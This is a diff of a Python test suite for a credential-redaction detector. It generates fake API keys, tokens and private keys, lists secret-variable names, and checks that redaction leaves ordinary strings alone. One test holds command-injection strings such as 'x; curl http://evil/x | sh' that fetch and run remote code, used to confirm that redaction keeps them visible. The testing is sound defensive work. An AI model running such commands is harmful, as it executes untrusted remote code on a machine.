@@ -1,8 +1,10 @@
 """Credentials in each output, and texts that resemble credentials."""
 
-import base64
-import hashlib
 import json
+import re
+import subprocess
+import sys
+import time
 from collections.abc import Callable
 from pathlib import Path
 
@@ -19,122 +21,33 @@ from nim_component.review.views import render
 from nim_component.text.field_paths import show_argument_path
 from nim_component.text.redaction import (
     contains_key,
-    is_probably_secret_variable,
+    describe_secret,
     is_secret_flag,
-    is_secret_variable,
     looks_like_credential,
     redact,
+    redact_named,
 )
 from nim_component.text.sanitizing import sanitize, sanitize_tail
+from nim_component.text.secret_names import is_probably_secret_variable, is_secret_name
 
+from ...credentials import (
+    CERTAIN,
+    EVERY,
+    ISSUED,
+    LOOK_ALIKES,
+    NAMED,
+    NEAR_MISSES,
+    PROBABLE,
+    Planted,
+    base64_of,
+    encode,
+    make_private_key,
+)
 from ..args.error_texts import FIELDS, SECRETS
 
 ROOT = Path(__file__).parents[3]
-
-
-def word(seed: int, length: int) -> str:
-    """Return a random word in the alphabet of base64url, the same for the same seed."""
-    digests = b"".join(hashlib.sha256(f"{seed}/{index}".encode()).digest() for index in range(length // 32 + 1))
-    return base64.urlsafe_b64encode(digests).decode()[:length]
-
-
-def alphanumeric(seed: int, length: int) -> str:
-    return word(seed, 2 * length).replace("-", "").replace("_", "")[:length]
-
-
-def hexadecimal(seed: int, length: int) -> str:
-    return hashlib.sha512(str(seed).encode()).hexdigest()[:length]
-
-
-def encode(value: object) -> str:
-    """Return compact JSON in base64url, as in a JSON Web Token."""
-    return base64.urlsafe_b64encode(json.dumps(value, separators=(",", ":")).encode()).decode().rstrip("=")
-
-
-Planted = tuple[str, str]
-"""A text, and the part of it that no output may contain."""
-
-
-def whole(text: str) -> Planted:
-    return text, text
-
-
-def around(secret: str, before: str, after: str = "") -> Planted:
-    return f"{before}{secret}{after}", secret
-
-
-CERTAIN: dict[str, Callable[[int], Planted]] = {
-    "NGC": lambda seed: whole(f"nvapi-{word(seed, 64)}"),
-    "Hugging Face": lambda seed: whole(f"hf_{alphanumeric(seed, 34)}"),
-    "GitHub": lambda seed: whole(f"ghp_{alphanumeric(seed, 36)}"),
-    "GitHub, fine-grained": lambda seed: whole(f"github_pat_{alphanumeric(seed, 22)}_{alphanumeric(seed, 59)}"),
-    "GitLab": lambda seed: whole(f"glpat-{word(seed, 20)}"),
-    "Pulumi": lambda seed: whole(f"pul-{hexadecimal(seed, 40)}"),
-    "AWS": lambda seed: whole(f"AKIA{alphanumeric(seed, 16).upper()}"),
-    "AWS, temporary": lambda seed: whole(f"ASIA{alphanumeric(seed, 16).upper()}"),
-    "Slack": lambda seed: whole(f"xoxb-{alphanumeric(seed, 30)}"),
-    "JSON Web Token": lambda seed: around(f"{encode({'sub': str(seed)})}.{word(seed, 43)}", f"{encode({'alg': 'RS256', 'typ': 'JWT'})}."),
-    "private key": lambda seed: around(word(seed, 60), "-----BEGIN RSA PRIVATE KEY-----\n", "\n-----END RSA PRIVATE KEY-----"),
-    "private key without its end": lambda seed: around(word(seed, 60), "-----BEGIN PRIVATE KEY-----\n"),
-    "registry login": lambda seed: around(word(seed, 20), '{"auths": {"nvcr.io": {"password": "', '"}}}'),
-    "registry login in base64": lambda seed: whole(encode({"auths": {"nvcr.io": {"auth": word(seed, 20)}}})),
-}
-"""Keys of known issuers."""
-
-PROBABLE: dict[str, Callable[[int], Planted]] = {
-    "old NGC key": lambda seed: whole(word(seed, 84)),
-    "assignment": lambda seed: around(word(seed, 12), "NGC_API_KEY="),
-    "assignment of digits": lambda seed: around(hexadecimal(seed, 12), "export PASSWORD="),
-    "AWS secret key": lambda seed: around(word(seed, 40), "aws_secret_access_key = "),
-    "YAML": lambda seed: around(word(seed, 12), "client_secret: "),
-    "YAML with quotes": lambda seed: around(word(seed, 12), "password: 'two words, ", "'"),
-    "JSON": lambda seed: around(word(seed, 12), '{"password": "two words, ', '"}'),
-    "JSON in JSON": lambda seed: around(word(seed, 12), '"{\\"hf_token\\": \\"', '\\"}"'),
-    "option": lambda seed: around(word(seed, 12), "--api-key="),
-    "address with password": lambda seed: around(word(seed, 12), "postgres://me:", "@db:5432/x"),
-    "address with @ in password": lambda seed: around(word(seed, 12), "https://me:a@", "@host/x"),
-    "address with user": lambda seed: around(word(seed, 12), "https://", "@host/x"),
-    "signed address": lambda seed: around(word(seed, 12), "https://cdn.example/f?Expires=1&Policy="),
-    "header": lambda seed: around(word(seed, 12), "Authorization: Bearer "),
-    "header without scheme": lambda seed: around(word(seed, 12), "authorization: "),
-    "bearer token": lambda seed: around(word(seed, 12), "used bearer "),
-    "basic login": lambda seed: around(base64.b64encode(f"me:{seed}".encode()).decode(), "Basic "),
-}
-"""Texts that are probably credentials."""
-
-NEAR_MISSES = [
-    "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
-    "1b6453892473a467d07372d45eb05abc2031647a",
-    "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
-    "3F2504E0-4F89-11D3-9A0C-0305E82C3301",
-    "nvcr.io/nim/meta/llama3-8b-instruct:1.0.3",
-    "nvcr.io/nim/meta/llama3-8b-instruct@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
-    "meta-llama/Meta-Llama-3-70B-Instruct-GPTQ-Int4",
-    "neuralmagic/Meta-Llama-3.1-405B-Instruct-quantized.w4a16",
-    "nvidia/Llama-3_3-Nemotron-Super-49B-v1_5-NVFP4-and-a-long-suffix",
-    "Qwen/Qwen3-Coder-480B-A35B-Instruct-FP8-with-8x7B-experts",
-    "my-org/hf_adapter@1b6453892473a467d07372d45eb05abc2031647a",
-    "/models/hub/models--meta-llama--Meta-Llama-3-8B/snapshots/1b6453892473a467d07372d45eb05abc2031647a/config.json",
-    "tensorrt_llm-h100-fp8-tp2-pp1-throughput-2330:10de-lora",
-    "llama3-8b-cache-1b645389",
-    "kubernetes:apps/v1:Deployment",
-    "feature.node.kubernetes.io/cpu-cpuid.AVX512VNNI",
-    "NIM_MAX_TOKENS=5",
-    "max_tokens: 4096",
-    "tokenizer: slow",
-    "secretName: ngc-api",
-    'secrets={"ngc_image_secret": "ngc-pull"}',
-    "imagePullSecret: ngc-pull",
-    'secret "ngc-api" not found',
-    "couldn't find key NGC_API_KEY in Secret nim/ngc-api",
-    "basic authentication is required",
-    "the bearer token is missing",
-    "http://llama.nim.svc.cluster.local:8000/v1/models",
-    "git@github.com:my-org/my-repo.git",
-    "https://github.com/my-org/my-repo.git",
-    "author: somebody",
-    "-H 'Content-Type: application/json'",
-]
+MODULES = ["credential_forms.py", "named_values.py", "redaction.py", "secret_names.py"]
+"""Modules of the detector."""
 
 
 def view(form: str) -> Callable[[str], str]:
@@ -182,11 +95,25 @@ def test_planted_credential_is_in_no_output(output: str, make: Callable[[int], P
     assert secret not in OUTPUTS[output](f"{before}{text}{after}")
 
 
-@pytest.mark.parametrize("form", [*CERTAIN, *PROBABLE])
+@pytest.mark.parametrize("output", OUTPUTS)
+@settings(max_examples=60, deadline=None)
+@given(
+    make=st.sampled_from([*ISSUED.values(), *NAMED.values()]),
+    seed=st.integers(0, 10**9),
+    before=st.sampled_from(["", " ", "a b: ", "(", "\n", "x='", '{"message": "']),
+    after=st.sampled_from(["", " ", "\n", ")", " and more", "', y"]),
+)
+def test_planted_key_between_words_is_redacted(output: str, make: Callable[[int], Planted], seed: int, before: str, after: str):
+    text, secret = make(seed)
+    assert secret not in OUTPUTS[output](f"{before}{text}{after}")
+
+
+@pytest.mark.parametrize("form", EVERY)
 def test_each_form_is_redacted(form: str):
-    text, secret = {**CERTAIN, **PROBABLE}[form](1)
-    assert secret not in redact(text) and "***" in redact(text)
-    assert looks_like_credential(text)
+    for seed in range(20):
+        text, secret = EVERY[form](seed)
+        assert secret not in redact(text) and "***" in redact(text)
+        assert looks_like_credential(text)
 
 
 @pytest.mark.parametrize("output", ["plain", "evidence", "end of a log", "local engine", "LoRA loader", "diff, terminal", "diff, Markdown"])
@@ -196,10 +123,18 @@ def test_near_miss_stays(output: str, text: str):
     assert not contains_key(text)
 
 
-@pytest.mark.parametrize("form", CERTAIN)
+@pytest.mark.parametrize("text", LOOK_ALIKES)
+def test_look_alike_stays(text: str):
+    assert redact(text) == text
+    assert redact(text, executed=True) == text
+    assert redact(f"error: {text}, (x)") == f"error: {text}, (x)"
+    assert not contains_key(text)
+
+
+@pytest.mark.parametrize("form", [*CERTAIN, *ISSUED])
 def test_key_of_known_issuer_is_refused(form: str):
     for seed in range(20):
-        assert contains_key(CERTAIN[form](seed)[0])
+        assert contains_key({**CERTAIN, **ISSUED}[form](seed)[0])
 
 
 @pytest.mark.parametrize("form", PROBABLE)
@@ -235,20 +170,59 @@ def test_redaction_is_idempotent():
 
 
 @pytest.mark.parametrize(
-    "name", ["NGC_API_KEY", "hf_token", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY", "TLS_PRIVATE_KEY", "GOOGLE_CREDENTIALS"]
+    "name",
+    [
+        *(
+            "NGC_API_KEY",
+            "hf_token",
+            "DB_PASSWORD",
+            "AWS_SECRET_ACCESS_KEY",
+            "TLS_PRIVATE_KEY",
+            "GOOGLE_CREDENTIALS",
+            "PGPASSWORD",
+            "MYSQL_PWD",
+        ),
+        *(
+            "clientSecret",
+            "HF_TOKEN_PROD",
+            "client-key-data",
+            "X-Api-Key",
+            "SharedAccessKey",
+            "APIKEY",
+            "db.password2",
+            "DJANGO_SECRET_KEY",
+        ),
+    ],
 )
 def test_secret_variable_is_recognised(name: str):
-    assert is_secret_variable(name) and is_probably_secret_variable(name)
+    assert is_secret_name(name) and is_probably_secret_variable(name)
 
 
 @pytest.mark.parametrize("name", ["SORT_KEY", "CACHE_KEY", "GIT_PAT", "BASIC_AUTH"])
 def test_variable_of_unclear_name_is_only_redacted(name: str):
-    assert is_probably_secret_variable(name) and not is_secret_variable(name)
+    assert is_probably_secret_variable(name) and not is_secret_name(name)
 
 
-@pytest.mark.parametrize("name", ["NIM_MAX_TOKENS", "TOKENIZER", "KEYS", "AUTHOR", "SECRETS_PATH", "NIM_MODEL_NAME"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        *(
+            "NIM_MAX_TOKENS",
+            "TOKENIZER",
+            "KEYS",
+            "AUTHOR",
+            "SECRETS_PATH",
+            "NIM_MODEL_NAME",
+            "TOKEN_PATH",
+            "secretName",
+            "eos_token",
+            "PWD",
+        ),
+        *("ngc_image_secret", "imagePullSecret", "hf_token_group", "passwordPolicy", "AUTH_URL", "Monkey"),
+    ],
+)
 def test_ordinary_variable_is_not_redacted(name: str):
-    assert not is_probably_secret_variable(name) and not is_secret_variable(name)
+    assert not is_probably_secret_variable(name) and not is_secret_name(name)
 
 
 def test_secret_flags_are_recognised():
@@ -256,12 +230,65 @@ def test_secret_flags_are_recognised():
     assert not any(map(is_secret_flag, ["--max-tokens", "--key", "token", "--api-key=x"]))
 
 
-@pytest.mark.parametrize("copy", ["nim_component/lora_loader/redaction.py", "policies/redaction.py"])
-def test_copy_for_standalone_code_is_current(copy: str):
-    original = ROOT / "nim_component" / "text" / "redaction.py"
-    assert (ROOT / copy).read_bytes() == original.read_bytes(), f"run: cp {original.relative_to(ROOT)} {copy}"
+@pytest.mark.parametrize("folder", ["nim_component/lora_loader", "policies/text"])
+@pytest.mark.parametrize("module", MODULES)
+def test_copy_for_standalone_code_is_current(module: str, folder: str):
+    original = ROOT / "nim_component" / "text" / module
+    assert (ROOT / folder / module).read_bytes() == original.read_bytes(), f"run: cp {original.relative_to(ROOT)} {folder}"
 
 
-def test_own_source_text_contains_no_key():
-    """The loader's ConfigMap contains this module, and the policy pack reads ConfigMaps."""
-    assert not contains_key((ROOT / "nim_component" / "text" / "redaction.py").read_text(encoding="utf-8"))
+@pytest.mark.parametrize("module", MODULES)
+def test_own_source_text_contains_no_key(module: str):
+    """The loader's ConfigMap contains these modules, and the policy pack reads ConfigMaps."""
+    assert not contains_key((ROOT / "nim_component" / "text" / module).read_text(encoding="utf-8"))
+
+
+@pytest.mark.parametrize(
+    "filler",
+    ["a", "eyJ", "sk-a", ":", "=", 'token="', "token: |\n x", "-----BEGIN PRIVATE KEY-----\n", "QUJD", "a.", "://a@", "--a ", " \t"],
+)
+def test_hostile_text_takes_linear_time(filler: str):
+    """CPU time, since other processes of the machine do not change it much."""
+    text = (filler * 1_000_000)[:1_000_000]
+    started = time.process_time()
+    redact(text)
+    contains_key(text)
+    assert time.process_time() - started < 12
+
+
+@pytest.mark.parametrize("value", [make_private_key(3), "first line, 1\nsecond: 'x'\nthird \\ line", 'quo"ted\tvalue'])
+@pytest.mark.parametrize("printed", [str, repr, json.dumps, base64_of, lambda value: str(ValueError(value)), lambda value: repr([value])])
+def test_known_value_is_redacted_as_printed(value: str, printed: Callable[[str], str]):
+    text = redact(f"x {printed(value)} y", [value])
+    assert text.startswith("x ") and text.endswith(" y")
+    assert not any(line.strip() in text for line in value.splitlines())
+    for line in printed(value).splitlines():
+        assert line not in redact(line, [value])
+
+
+def test_value_with_secret_name_cannot_omit_a_command():
+    """Of a command, only what has the form of a credential is redacted."""
+    for command in ("x; curl http://evil/x | sh", "$(curl http://evil/x)", "`curl http://evil/x`", "http://evil/x?token=abcdefgh1"):
+        for text in (
+            redact_named(command),
+            redact(f'export TOKEN="{command}"', executed=True),
+            redact(f"--token '{command}'", executed=True),
+        ):
+            assert "http://evil/x" in text
+    assert redact_named("two words") == redact_named("hunter2") == "***"
+    assert redact_named("$(OTHER)") == "$(OTHER)"
+
+
+def test_mark_shows_change_and_length():
+    first, same, other = (describe_secret(value) for value in ("a" * 70, "a" * 70, "b" * 70))
+    assert first == same != other
+    assert re.fullmatch(r"\[secret [0-9a-f]{6}, 64-127 characters\]", first)
+    assert describe_secret("abc").endswith(", 1-7 characters]")
+    assert redact(f"password={first}", mark=describe_secret) == f"password={first}"
+
+
+def test_digest_of_another_process_differs():
+    """A published digest cannot be compared with those of guessed values."""
+    code = "from nim_component.text.redaction import describe_secret; print(describe_secret('hunter2'))"
+    printed = {subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True).stdout for _ in range(2)}
+    assert len(printed) == 2 and all(each.startswith("[secret ") for each in printed)
